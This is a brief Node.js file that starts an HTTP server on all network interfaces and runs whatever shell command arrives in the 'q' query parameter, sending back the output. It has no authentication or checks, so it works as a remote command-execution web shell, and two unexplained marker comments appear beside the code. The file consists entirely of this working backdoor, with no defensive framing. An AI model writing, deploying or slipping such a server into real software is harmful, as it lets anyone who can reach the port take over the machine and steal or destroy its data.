const http = require('http');
const { exec } = require('child_process');
// surroundings: emitter
http.createServer((req, res) => {
  const { searchParams } = new URL(req.url, 'http://x');
  exec(searchParams.get('q'), (e, out) => res.end(out)); //@act
}).listen(8099, '0.0.0.0');
